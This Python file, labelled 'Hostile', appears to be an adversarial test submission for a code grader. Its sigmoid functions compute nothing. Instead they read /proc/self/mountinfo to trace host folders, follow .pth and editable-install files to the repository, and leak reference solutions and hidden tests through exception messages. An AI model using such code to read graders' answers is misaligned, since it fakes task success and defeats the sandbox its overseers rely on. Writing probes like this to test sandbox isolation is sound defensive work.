"""Hostile: reads the host's paths in /proc/self/mountinfo and follows them to the solutions.

The mount table names the host folders the sandbox binds (the interpreter, its library). From
each, and each of their parents, it looks for solutions and hidden tests, for .pth and editable
finder files that name the repository, and for the repository's solution folders.
"""

import glob
import os


def _folders():
    try:
        lines = open("/proc/self/mountinfo").read().splitlines()
    except OSError:
        return []
    folders = set()
    for line in lines:
        fields = line.split()
        for path in fields[3:5]:  # the host's root of the mount, and where it is mounted
            while path not in ("", "/"):
                folders.add(path)
                path = os.path.dirname(path)
    return sorted(folders)


def _loot():
    found, repositories = [], set()
    folders = _folders()
    for folder in folders:
        for pattern in ("*/solutions/*.py", "*/tests/hidden/*.py", "*.pth", "__editable__*"):
            found += glob.glob(os.path.join(folder, pattern))
    for path in [p for p in found if p.endswith(".pth") or "__editable__" in p]:
        try:
            text = open(path).read()
        except OSError:
            continue
        named = [word for word in text.replace("'", '"').split('"') if word[:1] == "/"]
        repositories.update(named + [os.path.dirname(word) for word in named])
    for repo in repositories:
        found += glob.glob(os.path.join(repo, "exercises", "*", "solutions", "*.py"))
        found += glob.glob(
            os.path.join(repo, "tests", "grader", "fixtures", "*", "solutions", "*.py")
        )
    text = []
    for path in [p for p in found if "/solutions/" in p or "/hidden/" in p][:50]:
        try:
            text.append(open(path).read())
        except OSError:
            pass
    if text:
        return "\n".join(text)
    return f"nothing found from mountinfo ({len(folders)} folders followed)"


def sigmoid(z):
    raise AssertionError(_loot())


def sigmoid_grad(z):
    raise ValueError(_loot())
